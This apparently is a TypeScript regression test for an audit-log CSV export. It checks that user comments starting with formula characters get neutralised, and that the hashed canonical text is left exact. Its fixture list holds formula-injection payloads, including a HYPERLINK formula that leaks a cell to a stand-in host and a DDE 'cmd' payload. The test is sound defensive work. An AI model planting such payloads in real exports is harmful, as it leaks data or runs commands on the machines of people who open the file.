// Text that people write (comments, names, labels) reaches the CSV export; a spreadsheet must show it, not
// run it. A comment "=HYPERLINK(…)" used to land in the export as a live formula.
import { beforeAll, expect, it } from 'vitest';
import type { Actor } from '@/lib/services/actor';
import { exportAudit } from '@/lib/services/export-audit';
import { moveVersion } from '@/lib/services/move-version';
import { register, seedModel, seedUser } from '../fixtures';

let admin: Actor, scientist: Actor;
let model: { id: string; name: string };

beforeAll(async () => {
  [admin, scientist] = await Promise.all([seedUser({ role: 'admin' }), seedUser({ role: 'scientist' })]);
  model = await seedModel({ owner: scientist });
});

// Comments are trimmed when recorded, so none starts with a tab or a carriage return here.
const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")', "+1+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(1,1)', '\uFF1D1+1'];

/** RFC 4180 rows: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      endCell();
    } else if (!quoted && c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else {
      cell += c;
    }
  }
  return rows;
}

it('escapes every cell that a spreadsheet would evaluate, and leaves the canonical text (which is hashed) exact', async () => {
  for (const comment of FORMULAS) {
    const v = await register(scientist, model.name);
    await moveVersion(scientist, 'archive', { model: model.name, number: v.number, comment });
  }
  const [header, ...rows] = parseCsv(await new Response((await exportAudit(admin, { model: model.name, action: 'version.archived' }, 'csv')).stream).text());
  const column = (name: string) => header!.indexOf(name);
  expect(rows.map((r) => r[column('comment')])).toEqual(FORMULAS.map((f) => `'${f}`));
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
  // The canonical text, which the hash covers, still holds each comment exactly: verification is unaffected.
  expect(rows.map((r) => (JSON.parse(r[column('canonical')]!) as unknown[]).includes(r[column('comment')]!.slice(1)))).toEqual(FORMULAS.map(() => true));
});
